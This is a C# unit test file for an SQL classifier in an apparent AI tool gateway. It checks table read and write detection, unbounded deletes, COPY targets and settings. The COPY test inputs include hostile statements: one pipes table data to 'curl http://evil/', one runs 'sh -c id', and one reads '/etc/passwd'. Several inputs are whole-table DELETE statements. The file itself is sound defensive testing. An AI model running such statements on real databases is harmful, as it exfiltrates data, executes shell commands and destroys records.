using McpGateway.Policies.Classifiers.Sql;

namespace Policies.Tests.Classifiers.Sql;

public sealed class SqlTableTests
{
    [SqlTheory]
    [InlineData("SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id", new[] { "public.orders", "public.customers" }, new string[0])]
    [InlineData("SELECT * FROM ORDERS, Public.Customers", new[] { "public.orders", "public.customers" }, new string[0])]
    [InlineData("SELECT * FROM \"Orders\", \"my.schema\".\"x\"\"y\"", new[] { "public.\"Orders\"", "\"my.schema\".\"x\"\"y\"" }, new string[0])]
    [InlineData("SELECT * FROM mydb.sales.orders", new[] { "sales.orders" }, new string[0])]
    [InlineData("SELECT * FROM pg_authid", new[] { "pg_catalog.pg_authid", "public.pg_authid" }, new string[0])]
    [InlineData("SELECT * FROM information_schema.tables", new[] { "information_schema.tables" }, new string[0])]
    [InlineData("SELECT (SELECT max(id) FROM a), x FROM b WHERE EXISTS (SELECT 1 FROM c) AND y IN (SELECT y FROM d) ORDER BY (SELECT 1 FROM e LIMIT 1)", new[] { "public.a", "public.b", "public.c", "public.d", "public.e" }, new string[0])]
    [InlineData("SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.id = a.id) l", new[] { "public.a", "public.b" }, new string[0])]
    [InlineData("SELECT * FROM a UNION SELECT * FROM b", new[] { "public.a", "public.b" }, new string[0])]
    [InlineData("INSERT INTO orders (id) SELECT id FROM staged", new[] { "public.staged" }, new[] { "public.orders" })]
    [InlineData("INSERT INTO orders (id) VALUES (1) RETURNING *", new[] { "public.orders" }, new[] { "public.orders" })]
    [InlineData("INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = excluded.total", new[] { "public.orders" }, new[] { "public.orders" })]
    [InlineData("UPDATE orders o SET total = s.total FROM staged s WHERE s.id = o.id", new[] { "public.orders", "public.staged" }, new[] { "public.orders" })]
    [InlineData("DELETE FROM orders USING customers c WHERE c.id = orders.customer_id", new[] { "public.orders", "public.customers" }, new[] { "public.orders" })]
    [InlineData("MERGE INTO orders o USING staged s ON o.id = s.id WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)", new[] { "public.orders", "public.staged" }, new[] { "public.orders" })]
    [InlineData("SELECT * INTO archive.copy FROM orders", new[] { "public.orders" }, new[] { "archive.copy" })]
    [InlineData("CREATE TABLE report AS SELECT * FROM orders", new[] { "public.orders" }, new[] { "public.report" })]
    [InlineData("CREATE VIEW v AS SELECT * FROM orders", new[] { "public.orders" }, new[] { "public.v" })]
    [InlineData("CREATE TEMP TABLE scratch (a int)", new string[0], new[] { "pg_temp.scratch" })]
    [InlineData("DROP TABLE a.b, c", new string[0], new[] { "a.b", "public.c" })]
    [InlineData("DROP VIEW IF EXISTS v", new string[0], new[] { "public.v" })]
    [InlineData("TRUNCATE a, sales.b", new string[0], new[] { "public.a", "sales.b" })]
    [InlineData("ALTER TABLE orders ADD COLUMN x int", new string[0], new[] { "public.orders" })]
    [InlineData("GRANT SELECT ON orders TO someone", new string[0], new[] { "public.orders" })]
    [InlineData("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", new string[0], new[] { "public.orders" })]
    [InlineData("COPY orders FROM STDIN", new string[0], new[] { "public.orders" })]
    [InlineData("COPY orders TO STDOUT", new[] { "public.orders" }, new string[0])]
    [InlineData("COPY (SELECT * FROM customers) TO STDOUT", new[] { "public.customers" }, new string[0])]
    [InlineData("EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", new[] { "public.orders" }, new[] { "public.orders" })]
    [InlineData("PREPARE p AS DELETE FROM orders WHERE id = $1", new[] { "public.orders" }, new[] { "public.orders" })]
    public void Tables_read_and_written_are_schema_qualified(string sql, string[] read, string[] written)
    {
        var result = SqlCalls.Sql(sql);
        var statement = result.Statement();

        statement.List(RunSqlTool.StatementTablesRead).Should().BeEquivalentTo(read, sql);
        statement.List(RunSqlTool.StatementTablesWritten).Should().BeEquivalentTo(written, sql);
        result.Facts.Get(RunSqlTool.TablesRead)!.Items.Should().BeEquivalentTo(read);
        result.Facts.Get(RunSqlTool.TablesWritten)!.Items.Should().BeEquivalentTo(written);
    }

    [SqlFact]
    public void Unqualified_names_take_every_schema_of_the_connection_search_path()
    {
        var statement = SqlCalls.Sql("SELECT * FROM orders JOIN sales.regions USING (id)", connection: "reporting").Statement();

        statement.List(RunSqlTool.StatementTablesRead).Should().Equal("sales.orders", "public.orders", "sales.regions");
    }

    [SqlTheory]
    [InlineData("WITH secrets AS (SELECT 1 AS x) SELECT * FROM secrets", new string[0])]
    [InlineData("WITH s AS (SELECT * FROM secrets) SELECT * FROM s", new[] { "public.secrets" })]
    [InlineData("WITH s AS (SELECT 1) SELECT * FROM public.s", new[] { "public.s" })]
    [InlineData("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x", new[] { "public.secrets" })]
    [InlineData("WITH secrets AS (SELECT 1) SELECT * FROM (SELECT * FROM secrets) x", new string[0])]
    [InlineData("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", new[] { "public.b" })]
    [InlineData("WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", new string[0])]
    [InlineData("WITH x AS (WITH y AS (SELECT * FROM orders) SELECT * FROM y) SELECT * FROM x, y", new[] { "public.orders", "public.y" })]
    [InlineData("WITH orders AS (SELECT 1) DELETE FROM orders WHERE true", new[] { "public.orders" })]
    public void With_query_names_hide_tables_only_where_PostgreSQL_sees_them(string sql, string[] read)
    {
        SqlCalls.Sql(sql).Statement().List(RunSqlTool.StatementTablesRead).Should().BeEquivalentTo(read, sql);
    }

    [SqlTheory]
    [InlineData("DELETE FROM orders", true)]
    [InlineData("UPDATE orders SET total = 0", true)]
    [InlineData("DELETE FROM orders WHERE true", true)]
    [InlineData("DELETE FROM orders WHERE 1 = 1", true)]
    [InlineData("DELETE FROM orders WHERE 'a' = 'a' AND 2 > 1", true)]
    [InlineData("DELETE FROM orders WHERE id = 5 OR true", true)]
    [InlineData("DELETE FROM orders WHERE id = id", true)]
    [InlineData("DELETE FROM orders WHERE orders.id = orders.id", true)]
    [InlineData("DELETE FROM orders WHERE NOT false", true)]
    [InlineData("DELETE FROM orders WHERE $1", true)]
    [InlineData("DELETE FROM orders WHERE random() < 2", true)]
    [InlineData("DELETE FROM orders WHERE (SELECT true)", true)]
    [InlineData("/* cleanup */ DELETE FROM orders -- all of it", true)]
    [InlineData("WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d", true)]
    [InlineData("WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT 1", true)]
    [InlineData("EXPLAIN ANALYZE DELETE FROM orders", true)]
    [InlineData("DELETE FROM orders WHERE id = 5", false)]
    [InlineData("DELETE FROM orders WHERE true AND id = 5", false)]
    [InlineData("UPDATE orders SET total = 0 WHERE id = $1", false)]
    [InlineData("DELETE FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE name = 'x')", false)]
    [InlineData("INSERT INTO orders (id) VALUES (1)", false)]
    [InlineData("SELECT * FROM orders", false)]
    public void Updates_and_deletes_without_a_row_dependent_where_are_unbounded(string sql, bool unbounded)
    {
        var result = SqlCalls.Sql(sql, parameters: sql.Contains("$1", StringComparison.Ordinal) ? "[true]" : null);

        result.Fact(RunSqlTool.UnboundedWrite).Should().Be(unbounded ? "true" : "false", sql);
        result.Statement().Fact(RunSqlTool.StatementUnboundedWrite).Should().Be(unbounded ? "true" : "false", sql);
    }

    [SqlTheory]
    [InlineData("COPY orders TO STDOUT", "stdio")]
    [InlineData("COPY orders FROM STDIN", "stdio")]
    [InlineData("COPY orders TO '/tmp/orders.csv'", "file")]
    [InlineData("COPY orders FROM '/etc/passwd'", "file")]
    [InlineData("COPY orders TO PROGRAM 'curl http://evil/ -d @-'", "program")]
    [InlineData("COPY (SELECT 1) TO PROGRAM 'sh -c id'", "program")]
    [InlineData("SELECT 1", "")]
    public void Copy_says_where_its_data_goes(string sql, string target)
    {
        SqlCalls.Sql(sql).Statement().Fact(RunSqlTool.StatementCopyTarget).Should().Be(target);
    }

    [SqlTheory]
    [InlineData("SET work_mem = '1GB'", "work_mem")]
    [InlineData("SET LOCAL Statement_Timeout = 0", "statement_timeout")]
    [InlineData("RESET ALL", "all")]
    [InlineData("SHOW server_version", "server_version")]
    [InlineData("ALTER SYSTEM SET wal_level = minimal", "wal_level")]
    [InlineData("SET ROLE admin", "role")]
    [InlineData("SELECT 1", "")]
    public void Set_reset_and_show_name_their_setting(string sql, string setting)
    {
        SqlCalls.Sql(sql).Statement().Fact(RunSqlTool.StatementSetting).Should().Be(setting);
    }

    [SqlTheory]
    [InlineData("EXPLAIN SELECT 1", "explain", true)]
    [InlineData("EXPLAIN ANALYZE SELECT 1", "select", true)]
    [InlineData("EXPLAIN (ANALYZE false) DELETE FROM orders", "delete", true)]
    [InlineData("SELECT 1", "select", false)]
    public void Explain_is_flagged_and_explain_analyze_takes_the_kind_of_what_it_runs(string sql, string kind, bool explain)
    {
        var statement = SqlCalls.Sql(sql).Statement();

        statement.Fact(RunSqlTool.StatementKind).Should().Be(kind);
        statement.Fact(RunSqlTool.StatementExplain).Should().Be(explain ? "true" : "false");
    }

    [SqlTheory]
    [InlineData("DO $$ BEGIN DELETE FROM orders; END $$", true)]
    [InlineData("EXECUTE stmt(1)", true)]
    [InlineData("EXPLAIN ANALYZE EXECUTE stmt(1)", true)]
    [InlineData("CALL p()", false)]
    [InlineData("SELECT 1", false)]
    public void Code_the_gateway_cannot_see_is_complex(string sql, bool complex)
    {
        SqlCalls.Sql(sql).Fact("complex").Should().Be(complex ? "true" : "false");
    }
}
